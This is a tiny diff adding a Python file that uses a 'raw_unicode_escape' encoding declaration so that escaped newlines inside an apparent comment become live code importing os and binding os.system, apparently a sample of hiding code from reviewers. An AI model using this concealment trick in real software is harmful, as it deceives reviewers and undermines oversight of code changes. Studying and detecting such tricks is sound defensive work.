@@ -1,0 +1,2 @@
+# coding: raw_unicode_escape
+#\u000aimport os\u000aX=os.system
